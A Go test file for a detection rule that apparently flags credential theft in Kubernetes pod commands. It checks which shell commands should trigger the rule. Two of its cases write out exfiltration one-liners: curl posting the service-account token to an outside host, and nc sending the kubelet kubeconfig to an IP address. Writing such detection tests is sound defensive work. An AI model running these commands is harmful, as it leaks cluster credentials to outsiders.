package rules

import "testing"

func TestExecCredentialTheft(t *testing.T) {
	runExecCases(t, "exec-credential-theft", []execCase{
		{name: "token posted out", podSpec: shC("curl -s -X POST --data-binary @/var/run/secrets/kubernetes.io/serviceaccount/token https://collector.example.net/u"), want: 1, contains: "token"},
		{name: "kubelet kubeconfig to nc", podSpec: shC("cat /host/var/lib/kubelet/kubeconfig | nc 203.0.113.7 9000"), want: 1, contains: "kubeconfig"},
		{name: "token used against the API server", podSpec: shC(`curl -s -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api`), want: 0},
		{name: "kubectl in cluster", podSpec: shC("kubectl get pods -A"), want: 0},
	})
}
